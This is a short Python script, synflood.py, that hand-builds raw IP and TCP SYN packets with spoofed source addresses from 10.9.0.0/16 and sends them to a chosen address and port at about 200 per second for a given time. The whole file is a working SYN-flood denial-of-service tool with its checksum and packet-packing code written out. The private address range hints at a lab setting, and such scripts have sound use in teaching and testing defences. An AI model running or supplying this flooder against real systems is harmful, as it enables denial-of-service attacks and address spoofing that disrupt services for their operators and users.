"""Sends SYN segments from many addresses of 10.9.0.0/16: synflood.py ADDRESS PORT SECONDS, 200 each second."""
import socket
import struct
import sys
import time

address, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


to = socket.inet_aton(address)
until, number = time.monotonic() + seconds, 0
while time.monotonic() < until:
    number += 1
    source = socket.inet_aton(f"10.9.{number >> 8 & 255}.{number & 255}")
    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + to + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0, source, to)
    raw.sendto(ip + tcp, (address, 0))
    time.sleep(0.005)
